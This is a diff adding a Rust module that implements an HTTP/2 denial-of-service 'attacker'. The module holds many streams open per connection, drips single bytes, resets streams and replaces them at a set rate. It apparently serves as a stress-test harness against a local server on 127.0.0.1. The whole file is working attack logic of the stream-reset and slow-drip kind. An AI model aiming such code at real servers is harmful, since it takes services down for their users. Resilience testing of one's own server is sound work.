@@ -1,0 +1,250 @@
+//! An attacker over HTTP/2: streams that are opened, hold a little, and are reset.
+
+use std::{collections::HashMap, io, time::Duration};
+
+use serde::{Deserialize, Serialize};
+use tokio::{
+    io::Interest,
+    net::TcpStream,
+    time::{Instant, sleep, sleep_until},
+};
+
+use crate::{
+    attackers::Counter,
+    frames::{self, Received},
+};
+
+const TICK: Duration = Duration::from_millis(10);
+
+/// How long the first streams take turns to be opened at most.
+const RAMP: Duration = Duration::from_secs(1);
+
+/// With so much unsent, no further stream is opened.
+const MAX_UNSENT: usize = 1024 * 1024;
+
+/// What a connection may send at first (RFC 9113).
+const WINDOW: usize = 65_535;
+
+/// Connections that keep streams open. Each stream is reset after a while. Another one takes its place then, or as soon as the
+/// server has answered.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub(crate) struct Streams {
+    pub(crate) connections: usize,
+    /// Streams of each connection.
+    pub(crate) streams: usize,
+    /// How much each stream sends at once.
+    pub(crate) bytes: usize,
+    pub(crate) hold: Duration,
+    /// How often each stream sends one more byte.
+    pub(crate) drip: Option<Duration>,
+    /// How many streams are opened in a second at most, in all.
+    pub(crate) rate: u32,
+}
+
+struct Connection<'a> {
+    plan: &'a Streams,
+    counter: &'a Counter,
+    stream: TcpStream,
+    out: Vec<u8>,
+    read: Vec<u8>,
+    /// The settings of the server have come, so that streams can be opened.
+    is_open: bool,
+    /// How much may be sent on the connection.
+    window: usize,
+    next_id: u32,
+    /// How many streams may be opened now.
+    permits: f64,
+    slots: Vec<Slot>,
+    /// The slots of the streams that are open.
+    by_id: HashMap<u32, usize>,
+}
+
+/// A place for a stream.
+#[derive(Clone, Copy)]
+struct Slot {
+    /// `None` if the last stream was answered or reset.
+    id: Option<u32>,
+    /// When the stream is reset, or the next one opened.
+    due: Instant,
+    next_drip: Instant,
+}
+
+impl Streams {
+    /// Starts a task for each connection.
+    pub(crate) fn start(&self, port: u16, counter: &Counter) {
+        for _ in 0..self.connections {
+            let (plan, counter) = (self.clone(), counter.clone());
+            tokio::spawn(async move {
+                loop {
+                    let _ = plan.attack(port, &counter).await;
+                    counter.get().lost += 1;
+                    sleep(TICK).await;
+                }
+            });
+        }
+    }
+
+    async fn attack(&self, port: u16, counter: &Counter) -> io::Result<()> {
+        let stream = TcpStream::connect(("127.0.0.1", port)).await?;
+        stream.set_zero_linger()?;
+        stream.set_nodelay(true)?;
+        Connection::new(self, counter, stream).run().await
+    }
+}
+
+impl<'a> Connection<'a> {
+    fn new(plan: &'a Streams, counter: &'a Counter, stream: TcpStream) -> Self {
+        // Streams take turns evenly, from the beginning.
+        let (now, ramp) = (Instant::now(), plan.hold.min(RAMP));
+        let due = |n: usize| now + ramp.mul_f64(n as f64 / plan.streams as f64);
+        let slot = |n| Slot { id: None, due: due(n), next_drip: now };
+        Self {
+            plan,
+            counter,
+            stream,
+            out: frames::PREFACE.to_vec(),
+            read: Vec::new(),
+            is_open: false,
+            window: WINDOW,
+            next_id: 1,
+            permits: 0.0,
+            slots: (0..plan.streams).map(slot).collect(),
+            by_id: HashMap::new(),
+        }
+    }
+
+    /// Attacks until the connection fails.
+    async fn run(mut self) -> io::Result<()> {
+        let mut tick = Instant::now();
+        loop {
+            let interest =
+                if self.out.is_empty() { Interest::READABLE } else { Interest::READABLE | Interest::WRITABLE };
+            tokio::select! {
+                ready = self.stream.ready(interest) => {
+                    let ready = ready?;
+                    if ready.is_readable() {
+                        self.receive()?;
+                    }
+                    if ready.is_writable() {
+                        self.send()?;
+                    }
+                }
+                () = sleep_until(tick) => {
+                    let now = Instant::now();
+                    self.tick(now, now - tick + TICK);
+                    tick = now + TICK;
+                    self.send()?;
+                }
+            }
+        }
+    }
+
+    /// Does what is due in all slots, `elapsed` after the last time.
+    fn tick(&mut self, now: Instant, elapsed: Duration) {
+        if !self.is_open || self.out.len() > MAX_UNSENT {
+            return;
+        }
+        let rate = f64::from(self.plan.rate) / self.plan.connections as f64;
+        // What was not used at one tick can be used at the next.
+        self.permits = (self.permits + rate * elapsed.as_secs_f64()).min(1.0 + 4.0 * rate * TICK.as_secs_f64());
+        // Begin elsewhere each time, so that the first slots do not use up all permits.
+        let first = self.next_id as usize / 2 % self.slots.len();
+        for n in (first..self.slots.len()).chain(0..first) {
+            self.turn(n, now);
+        }
+    }
+
+    fn turn(&mut self, n: usize, now: Instant) {
+        let Slot { id, due, next_drip } = self.slots[n];
+        if now >= due {
+            if let Some(id) = id {
+                frames::reset(&mut self.out, id);
+                self.vacate(id, now);
+            }
+            self.open(n, now);
+        } else if let Some((id, drip)) = id.zip(self.plan.drip)
+            && now >= next_drip
+            && self.window > 0
+        {
+            self.window -= 1;
+            frames::data(&mut self.out, id, 1);
+            self.slots[n].next_drip = now + drip;
+        }
+    }
+
+    /// Opens a stream, if that is allowed now.
+    fn open(&mut self, n: usize, now: Instant) {
+        let Streams { bytes, hold, drip, .. } = *self.plan;
+        if self.permits < 1.0 || self.window < bytes {
+            return;
+        }
+        self.permits -= 1.0;
+        self.window -= bytes;
+        let id = self.next_id;
+        frames::head(&mut self.out, id, id == 1);
+        frames::data(&mut self.out, id, bytes);
+        self.next_id += 2;
+        self.by_id.insert(id, n);
+        self.slots[n] = Slot { id: Some(id), due: now + hold, next_drip: now + drip.unwrap_or_default() };
+        self.counter.get().begun += 1;
+    }
+
+    /// Frees the slot of a stream. Returns whether the stream had one.
+    fn vacate(&mut self, id: u32, now: Instant) -> bool {
+        let Some(n) = self.by_id.remove(&id) else { return false };
+        self.slots[n] = Slot { id: None, due: now, next_drip: now };
+        true
+    }
+
+    fn send(&mut self) -> io::Result<()> {
+        while !self.out.is_empty() {
+            match self.stream.try_write(&self.out) {
+                Ok(sent) => {
+                    self.out.drain(..sent);
+                    self.counter.get().bytes += sent as u64;
+                }
+                Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
+                Err(error) => return Err(error),
+            }
+        }
+        Ok(())
+    }
+
+    fn receive(&mut self) -> io::Result<()> {
+        let mut buffer = [0; 16 * 1024];
+        match self.stream.try_read(&mut buffer) {
+            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
+            Ok(read) => self.read.extend_from_slice(&buffer[..read]),
+            Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
+            Err(error) => return Err(error),
+        }
+        let mut done = 0;
+        while let Some((received, length)) = frames::parse(&self.read[done..]) {
+            done += length;
+            self.react(received)?;
+        }
+        self.read.drain(..done);
+        Ok(())
+    }
+
+    fn react(&mut self, received: Received) -> io::Result<()> {
+        match received {
+            Received::Settings => {
+                frames::acknowledge_settings(&mut self.out);
+                self.is_open = true;
+            }
+            Received::Ping(payload) => frames::pong(&mut self.out, payload),
+            Received::Window(more) => self.window += more as usize,
+            Received::Answer(id) | Received::Reset(id) => {
+                if self.vacate(id, Instant::now()) {
+                    // The server still counts the stream until either side resets it.
+                    frames::reset(&mut self.out, id);
+                    self.counter.get().answered += 1;
+                }
+            }
+            Received::GoAway => return Err(io::ErrorKind::ConnectionAborted.into()),
+            Received::Other => {}
+        }
+        Ok(())
+    }
+}
